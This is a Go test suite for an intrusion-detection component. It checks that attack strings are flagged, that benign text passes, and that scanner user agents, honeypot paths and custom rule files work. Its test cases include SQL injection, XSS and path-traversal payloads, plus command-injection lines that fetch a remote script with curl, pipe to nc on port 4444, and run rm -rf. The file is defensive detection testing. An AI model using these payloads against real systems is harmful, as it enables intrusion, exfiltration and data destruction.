package detector

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/go-chi/chi/v5"
	"github.com/stretchr/testify/suite"

	"bulwark/internal/intrusion/config"
	"bulwark/internal/intrusion/models"
)

// =============================================================================
// Detector Test Suite
// =============================================================================
// Justification: Signature coverage and the scanned surfaces are what an
// attacker probes first; false negatives here silently disable escalation.

type DetectorSuite struct {
	suite.Suite
	cfg      *config.Config
	detector *Detector
}

func TestDetectorSuite(t *testing.T) {
	suite.Run(t, new(DetectorSuite))
}

func (s *DetectorSuite) SetupTest() {
	s.cfg = config.DefaultConfig()
	d, err := New(s.cfg)
	s.Require().NoError(err)
	s.detector = d
}

func (s *DetectorSuite) TestSignatures() {
	cases := []struct {
		input string
		want  models.Category
	}{
		{"1 UNION SELECT password FROM users", models.CategorySQLInjection},
		{"admin' OR '1'='1", models.CategorySQLInjection},
		{"1 or 1=1", models.CategorySQLInjection},
		{"x'; DROP TABLE users", models.CategorySQLInjection},
		{"1' AND SLEEP(5)", models.CategorySQLInjection},
		{"<script>alert(1)</script>", models.CategoryXSS},
		{`<img src=x onerror=alert(1)>`, models.CategoryXSS},
		{"javascript:alert(document.cookie)", models.CategoryXSS},
		{"../../etc/passwd", models.CategoryPathTraversal},
		{`..\..\windows`, models.CategoryPathTraversal},
		{"file; cat notes.txt", models.CategoryCommandInjection},
		{"x && curl http://203.0.113.9/x.sh", models.CategoryCommandInjection},
		{"a | nc 203.0.113.9 4444", models.CategoryCommandInjection},
		{"; rm -rf /tmp/data", models.CategoryCommandInjection},
		{"1 UNION ALL SELECT NULL,NULL--", models.CategorySQLInjection},
		{"admin'--", models.CategorySQLInjection},
		{"1; WAITFOR DELAY '0:0:5'", models.CategorySQLInjection},
		{"$(whoami)", models.CategoryCommandInjection},
		{"`id`", models.CategoryCommandInjection},
	}
	for _, tc := range cases {
		s.Run(tc.input, func() {
			m := s.detector.ScanString(tc.input)
			s.Require().NotNil(m)
			s.Equal(tc.want, m.Category)
		})
	}
}

func (s *DetectorSuite) TestBenignInput() {
	for _, in := range []string{
		"hello world",
		"O'Brien",
		"select a plan that fits",
		"rock and roll",
		"price: $(10)",
		"2 + 2 = 4",
		"docs/readme.md",
		"Tom & Jerry; friends forever",
		"I need more sleep (at least 8h) before the demo",
		`She said "ok" -- then left`,
		"Cats and dogs; cat food is on the list.",
		"Photoshop tip: union select all layers",
		"Ask the team lead || ping the channel",
		"final score and 2=2 points",
		"Meeting moved; ls means late start",
		"Deploy done && curl up with a book",
	} {
		s.Nil(s.detector.ScanString(in), in)
	}
}

func (s *DetectorSuite) TestURLDecodedOnce() {
	m := s.detector.ScanString("%3Cscript%3Ealert(1)%3C%2Fscript%3E")
	s.Require().NotNil(m)
	s.Equal(models.CategoryXSS, m.Category)
}

func (s *DetectorSuite) TestInspectSurfaces() {
	s.Run("query value", func() {
		r := httptest.NewRequest(http.MethodGet, "/search?q=1%27%20OR%20%271%27%3D%271", nil)
		m, err := s.detector.Inspect(r)
		s.Require().NoError(err)
		s.Require().NotNil(m)
		s.Equal(models.LocationQuery, m.Location)
	})

	s.Run("encoded path traversal", func() {
		r := httptest.NewRequest(http.MethodGet, "/files/%2e%2e%2f%2e%2e%2fetc%2fpasswd", nil)
		m, err := s.detector.Inspect(r)
		s.Require().NoError(err)
		s.Require().NotNil(m)
		s.Equal(models.CategoryPathTraversal, m.Category)
	})

	s.Run("route param", func() {
		r := httptest.NewRequest(http.MethodGet, "/users/x", nil)
		rctx := chi.NewRouteContext()
		rctx.URLParams.Add("id", "<svg onload=alert(1)>")
		r = r.WithContext(context.WithValue(r.Context(), chi.RouteCtxKey, rctx))
		m, err := s.detector.Inspect(r)
		s.Require().NoError(err)
		s.Require().NotNil(m)
		s.Equal(models.LocationParam, m.Location)
	})

	s.Run("nested json leaf and key", func() {
		r := httptest.NewRequest(http.MethodPost, "/api", strings.NewReader(`{"a":{"b":[1,{"c":"; rm -rf /"}]}}`))
		r.Header.Set("Content-Type", "application/json")
		m, err := s.detector.Inspect(r)
		s.Require().NoError(err)
		s.Require().NotNil(m)
		s.Equal(models.CategoryCommandInjection, m.Category)

		r = httptest.NewRequest(http.MethodPost, "/api", strings.NewReader(`{"<script>":"ok"}`))
		r.Header.Set("Content-Type", "application/json; charset=utf-8")
		m, err = s.detector.Inspect(r)
		s.Require().NoError(err)
		s.NotNil(m)
	})

	s.Run("form body", func() {
		r := httptest.NewRequest(http.MethodPost, "/login", strings.NewReader("user=admin%27--&pass=x"))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		m, err := s.detector.Inspect(r)
		s.Require().NoError(err)
		s.Require().NotNil(m)
		s.Equal(models.CategorySQLInjection, m.Category)
	})

	s.Run("binary body skipped", func() {
		r := httptest.NewRequest(http.MethodPost, "/upload", strings.NewReader("<script>"))
		r.Header.Set("Content-Type", "application/octet-stream")
		m, err := s.detector.Inspect(r)
		s.Require().NoError(err)
		s.Nil(m)
	})
}

func (s *DetectorSuite) TestBodyIsRestored() {
	body := `{"message":"hello"}`
	r := httptest.NewRequest(http.MethodPost, "/api", strings.NewReader(body))
	r.Header.Set("Content-Type", "application/json")

	m, err := s.detector.Inspect(r)
	s.Require().NoError(err)
	s.Nil(m)

	got, err := io.ReadAll(r.Body)
	s.Require().NoError(err)
	s.Equal(body, string(got))
}

func (s *DetectorSuite) TestBodyReadIsBounded() {
	s.cfg.MaxScanBytes = 1024
	d, err := New(s.cfg)
	s.Require().NoError(err)

	body := strings.Repeat("a", 2048) + "<script>"
	r := httptest.NewRequest(http.MethodPost, "/api", strings.NewReader(body))
	r.Header.Set("Content-Type", "text/plain")

	m, err := d.Inspect(r)
	s.Require().NoError(err)
	s.Nil(m, "content past the scan limit is not inspected")

	got, _ := io.ReadAll(r.Body)
	s.Len(got, len(body))
}

func (s *DetectorSuite) TestExcludedPathsSkipContentButNotUserAgent() {
	r := httptest.NewRequest(http.MethodGet, "/health?q=<script>", nil)
	m, err := s.detector.Inspect(r)
	s.Require().NoError(err)
	s.Nil(m)

	r.Header.Set("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")
	m, err = s.detector.Inspect(r)
	s.Require().NoError(err)
	s.Require().NotNil(m)
	s.Equal(models.CategoryScanner, m.Category)
}

func (s *DetectorSuite) TestUserAgent() {
	s.NotNil(s.detector.CheckUserAgent("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"))
	s.NotNil(s.detector.CheckUserAgent("Nikto/2.5.0"))
	s.Nil(s.detector.CheckUserAgent("Mozilla/5.0 (Macintosh; Intel Mac OS X 14_0) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15"))
	s.Nil(s.detector.CheckUserAgent(""))
}

func (s *DetectorSuite) TestHoneypot() {
	for _, p := range []string{"/wp-admin", "/WP-ADMIN/", "/wp-admin/setup.php", "/.env", "/cgi-bin/test.cgi"} {
		s.True(s.detector.IsHoneypot(p), p)
	}
	for _, p := range []string{"/", "/wp-administrator", "/api/env", "/cgi-bin"} {
		s.False(s.detector.IsHoneypot(p), p)
	}
}

func (s *DetectorSuite) TestRulesFile() {
	dir := s.T().TempDir()
	file := filepath.Join(dir, "rules.yaml")
	s.Require().NoError(os.WriteFile(file, []byte(`
rules:
  - name: sqli_hex_literal
    category: SQL_Injection
    pattern: '(?i)0x[0-9a-f]{16,}'
`), 0o600))

	s.cfg.RulesFile = file
	d, err := New(s.cfg)
	s.Require().NoError(err)

	m := d.ScanString("0x41414141414141414141")
	s.Require().NotNil(m)
	s.Equal(models.CategorySQLInjection, m.Category)
	s.Equal("sqli_hex_literal", m.Signature)
}

func (s *DetectorSuite) TestInvalidRules() {
	_, err := ParseRules([]byte("rules:\n  - name: broken\n    category: xss\n    pattern: '('\n"))
	s.Error(err)

	_, err = ParseRules([]byte("rules:\n  - name: nameless\n"))
	s.Error(err)

	s.cfg.RulesFile = filepath.Join(s.T().TempDir(), "missing.yaml")
	_, err = New(s.cfg)
	s.Error(err)
}
